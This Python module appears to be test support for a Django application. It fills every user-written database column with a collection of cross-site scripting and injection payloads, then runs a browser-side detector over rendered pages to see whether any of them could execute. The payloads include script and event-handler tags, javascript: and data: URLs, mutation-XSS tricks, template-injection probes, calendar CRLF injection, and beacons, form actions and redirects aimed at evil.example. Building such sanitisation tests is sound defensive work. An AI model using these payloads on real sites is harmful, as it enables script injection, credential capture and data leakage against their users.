"""Texts that would do something if anybody let them, and what a browser says of a page that holds them."""

from collections.abc import Iterable
from typing import Any

from django.apps import apps
from django.db.models import EmailField, JSONField, URLField

from guildhouse.testing.canaries import texts

HURT = "window.hurt=1"
EVIL = "https://evil.example/"
VECTORS = (
    f"<script>{HURT}</script>",
    f"<img src=x onerror={HURT}>",
    f'"><svg onload={HURT}>',
    f"' autofocus onfocus={HURT} x='",
    f"`\"'--></style></script></title></textarea><img src=x onerror={HURT}>",
    f"[a](javascript:{HURT})",
    f"[a](JaVa\tScRiPt:{HURT})",
    f"[a](&#106;avascript:{HURT})",
    f"[a](data:text/html,<script>{HURT}</script>)",
    f"<javascript:{HURT}>",
    f"![a]({EVIL}beacon.png)",
    f"<img src={EVIL}beacon.gif>",
    f'<link rel=stylesheet href="{EVIL}a.css"><style>@import "{EVIL}b.css";</style>',
    f'[a]({EVIL}"onmouseover="{HURT})',
    f'[a]: javascript:{HURT} "x"\n\n[a]',
    f"<iframe srcdoc='<script>parent.{HURT}</script>'></iframe>",
    f'<form action="{EVIL}"><input name=password><button formaction="javascript:{HURT}">a</button></form>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={HURT}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={HURT}>">',
    f'<svg><animate onbegin={HURT} attributeName=x dur=1s><foreignObject><iframe src="javascript:{HURT}">',
    f'<svg></p><style><a id="</style><img src=1 onerror={HURT}>">',
    f"<details open ontoggle={HURT}>a</details><video><source onerror={HURT}></video>",
    f'<object data="javascript:{HURT}"></object><embed src="javascript:{HURT}">',
    f'<base href="{EVIL}"><meta http-equiv=refresh content="0;url={EVIL}">',
    "{{7*191}}${7*191}<%= 7*191 %>#{7*191}{% print(7*191) %}",
    f"\u202e<scr\u0000ipt>{HURT}</script>\ufeff\u2028".replace("\u0000", ""),
    f"\uff1cscript\uff1e{HURT}\uff1c/script\uff1e <ſcript>{HURT}</ſcript>",
    f'<a hx-get="{EVIL}" hx-trigger="load" hx-on:load="{HURT}">a</a><div data-confirm="<img onerror={HURT}>">',
    "a\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:not ours\r\nATTACH:https://evil.example/\r\n",
    f'```html"><script>{HURT}</script>\n</code></pre><script>{HURT}</script>\n```',
    f"|a|\n|-|\n|<img src=x onerror={HURT}>|\n\n<!--><img src=x onerror={HURT}>-->",
)
# Runs inside the page: what of it could act, whatever a policy would stop.
LOOK = """() => {
  const found = [];
  const acts = /^\\s*(javascript|vbscript|data):/i, named = /href|src|action|data/;
  const fetches = /^(src|action|formaction|data|poster|hx-.*)$/;
  if (window.hurt) found.push('something ran');
  delete window.hurt;
  for (const one of document.querySelectorAll('*')) {
    for (const {name, value} of one.attributes) {
      const plain = value.replace(/[\\s\\x00-\\x1f]/g, '');
      const picture = one.tagName === 'IMG' && plain.startsWith('data:image/');
      if (/^on|^hx-on|^srcdoc$/.test(name)) found.push(name);
      if (named.test(name) && acts.test(plain) && !picture) found.push(`${name}=${value}`);
      if (fetches.test(name) && value.includes('evil.example')) found.push(`${name}=${value}`);
    }
  }
  const foreign = 'object,embed,base,animate,foreignObject,math,script:not([src]),[http-equiv=refresh]'
    + ',body style,iframe:not([sandbox])';
  for (const one of document.querySelectorAll(foreign)) found.push(one.tagName);
  if (document.body.innerText.includes('1337')) found.push('a template was filled in');
  return found;
}"""


def poison() -> int:
    """Put hostile texts into every column that holds what somebody wrote; answers into how many."""
    done = 0
    for model in apps.get_models():
        for field in texts(model):
            if f"{model._meta.label_lower}.{field.name}" == "notices.letter.html":  # written by the house
                continue
            if isinstance(field, EmailField | JSONField):
                continue
            for row in model._default_manager.order_by("pk"):
                done += 1
                value = (
                    f"{EVIL}'{VECTORS[done % len(VECTORS)]}" if isinstance(field, URLField) else several(done)
                )
                model._default_manager.filter(pk=row.pk).update(**{field.attname: value[: field.max_length]})
    return done


def several(turn: int) -> str:
    """Some of the vectors after one another, beginning with another one each turn."""
    return "\n\n".join([*VECTORS[turn % len(VECTORS) :], *VECTORS[: turn % len(VECTORS)]])


def found_in(page: Any, html: str, where: str) -> Iterable[str]:
    """What could act in this markup, with no policy to stop it."""
    page.set_content(html, wait_until="domcontentloaded")
    return [f"{where}: {one}" for one in page.evaluate(LOOK)]
